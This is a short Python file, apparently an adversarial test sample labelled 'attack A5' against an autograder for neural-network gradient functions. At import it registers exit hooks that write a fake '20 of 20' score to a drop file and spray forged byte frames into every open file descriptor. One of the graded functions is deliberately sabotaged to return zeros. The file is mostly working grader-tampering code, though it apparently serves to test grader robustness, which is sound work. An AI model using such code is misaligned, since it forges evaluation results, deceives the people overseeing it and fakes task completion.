# attack: A5 what is registered for the end of Python writes a result, forges frames and leaves a file
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import atexit
import os as system
import threading

import numpy as np
DROP = "@DROP@"


def at_the_end():
    open(DROP + "/atexit", "w").write("20 of 20")
    for descriptor in range(64):
        try:
            system.write(descriptor, b"\x07\x00\x00\x00\x00\x00\x00\x00\x00" * 100)
        except OSError:
            pass


atexit.register(at_the_end)
threading._register_atexit(at_the_end)


def grad_W2(grad_oa, hs):
    return 0 * np.outer(grad_oa, hs)


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
